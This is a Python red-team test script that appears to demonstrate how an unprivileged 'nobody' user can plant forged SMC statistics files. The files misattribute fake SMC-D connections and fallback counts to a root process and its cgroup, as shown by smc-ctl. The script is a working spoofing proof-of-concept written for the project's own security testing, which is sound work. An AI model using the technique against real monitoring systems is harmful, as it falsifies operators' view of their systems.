#!/usr/bin/env python3
"""red6: uid nobody writes statistics files in its own directory (procs/uid-65534, which the
daemon made for it) that speak for another uid's process and another cgroup.

Run as root under a private daemon: tests/redteam/world.sh tcp python3 rt6_stats.py
(the library is not needed: the victim is any root process with a TCP connection).

- A root "victim" process (in world.sh's cgroup) holds a TCP connection to itself.
- nobody (setpriv, same cgroup) asks the daemon once (QUERY_GID: the daemon makes its uid
  directory), then writes there
  * `<victim pid>`: a file with the victim's pid and start time (world-readable
    /proc/<pid>/stat), the victim's cgroup id, 1000000 SMC-D client connections, and a
    connection record for the victim's socket (its 4-tuple from /proc/net/tcp) saying SMCD with
    tokens and byte counts of its choosing;
  * `exited-<victim cgroup id>`: an aggregate of 424242 fallbacks for the victim's cgroup.
- root runs `smc-ctl conns` and `smc-ctl stats --cgroup <victim cgroup>`.

Expected (dir.rs: "a uid can only falsify its own figures"): nobody's files count for nobody
only. Observed: printed below.
"""
import os
import socket
import struct
import subprocess
import sys
import time

B = os.environ.get("B") or os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../target/release")
CTL = os.path.join(B, "smc-ctl")
PROCS = os.environ["SMC_PROCS_DIR"]
SOCK = os.environ["SMC_CTL_SOCK"]

MAGIC = 0x534D435053544154
PAGE = 4096


def u64(b, off, v):
    b[off:off + 8] = struct.pack("<Q", v & 0xFFFFFFFFFFFFFFFF)


def addr_words(ip, port):
    o = bytes(10) + b"\xff\xff" + socket.inet_aton(ip)
    w = int.from_bytes(o, "little")
    return w & (2**64 - 1), w >> 64, port


def stats_file(pid, start_time, pid_ns, cgroup_id, counters, records=(), aggregate=False):
    b = bytearray(PAGE + 128 * len(records))
    u64(b, 0, MAGIC)
    u64(b, 8, 1)
    u64(b, 16, pid)
    for off, v in counters.items():
        u64(b, off, v)
    u64(b, 424, 1)            # ext_version
    u64(b, 432, cgroup_id)
    u64(b, 440, start_time)
    u64(b, 448, 1 if aggregate else 0)
    u64(b, 456, (1 << 0) | ((1 << 6) if records else 0))  # VALID_IDENTITY | VALID_CONN_TABLE
    if records:
        u64(b, 1296, len(records))
        u64(b, 1304, PAGE)
        u64(b, 1312, 128)
    u64(b, 1320, pid_ns)
    for i, (lip, lport, pip, pport) in enumerate(records):
        at = PAGE + 128 * i
        l0, l1, _ = addr_words(lip, lport)
        p0, p1, _ = addr_words(pip, pport)
        w = [2, 2 | (5 << 32), lport << 32 | pport << 48, l0, l1, p0, p1,
             0xDEADBEEF00000001, 0xDEADBEEF00000002, 1 << 20 | (1 << 20) << 32,
             123456789, 987654321, int(time.time() * 1000), 0, 0, 0]
        for j, v in enumerate(w):
            u64(b, at + 8 * j, v)
    return bytes(b)


def query_gid():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(SOCK)
    s.send(struct.pack("<IHHII", 0x49434D53, 1, 1, 0, 1))
    s.recv(256)
    s.close()


def plant(victim, cg, lport, pport):
    # As nobody.
    query_gid()
    d = os.path.join(PROCS, "uid-%d" % os.getuid())
    for _ in range(50):
        if os.path.isdir(d):
            break
        time.sleep(0.1)
    st = open("/proc/%d/stat" % victim).read()
    start = int(st[st.rfind(")") + 2:].split()[19])
    pid_ns = os.stat("/proc/self/ns/pid").st_ino
    f = stats_file(victim, start, pid_ns, cg, {24: 1000000},
                   [("127.0.0.1", lport, "127.0.0.1", pport)])
    with open(os.path.join(d, str(victim)), "wb") as o:
        o.write(f)
    agg = stats_file(0, 0, 0, cg, {40: 424242, 48: 0}, aggregate=True)
    with open(os.path.join(d, "exited-%d" % cg), "wb") as o:
        o.write(agg)
    print("nobody (uid %d) planted %s/%d and exited-%d" % (os.getuid(), d, victim, cg))


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "plant":
        plant(*map(int, sys.argv[2:6]))
        return
    cgpath = os.environ["RT_CG"]
    cg = os.stat(cgpath).st_ino
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        # The victim: root, a TCP connection to itself, no library.
        l = socket.socket()
        l.bind(("127.0.0.1", 0))
        l.listen()
        c = socket.create_connection(l.getsockname())
        a, _ = l.accept()
        os.write(w, ("%d %d\n" % (c.getsockname()[1], c.getpeername()[1])).encode())
        time.sleep(30)
        os._exit(0)
    lport, pport = map(int, os.read(r, 100).split())
    print("victim: root pid %d, cgroup id %d, connection 127.0.0.1:%d -> :%d (plain TCP)"
          % (pid, cg, lport, pport))
    sys.stdout.flush()
    subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                    sys.executable, os.path.abspath(__file__), "plant",
                    str(pid), str(cg), str(lport), str(pport)], check=False)
    sys.stdout.flush()
    env = dict(os.environ)
    out = subprocess.run([CTL, "conns", "-d", "--procs-dir", PROCS, "--socket", SOCK], capture_output=True, text=True, env=env)
    print("--- root: smc-ctl conns -d (the victim's connection)")
    for line in (out.stdout + out.stderr).splitlines():
        if str(lport) in line or "PID" in line.upper()[:40] or "warning" in line:
            print(line)
    out = subprocess.run([CTL, "stats", "--cgroup", cgpath, "--procs-dir", PROCS, "--socket", SOCK, "-a"],
                         capture_output=True, text=True, env=env)
    print("--- root: smc-ctl stats --cgroup <victim cgroup> -a")
    for line in (out.stdout + out.stderr).splitlines():
        if any(k in line.lower() for k in ("smc-d", "fallback", "conn", "warning", "error")):
            print(line)
    os.kill(pid, 9)
    os.waitpid(pid, 0)


main()
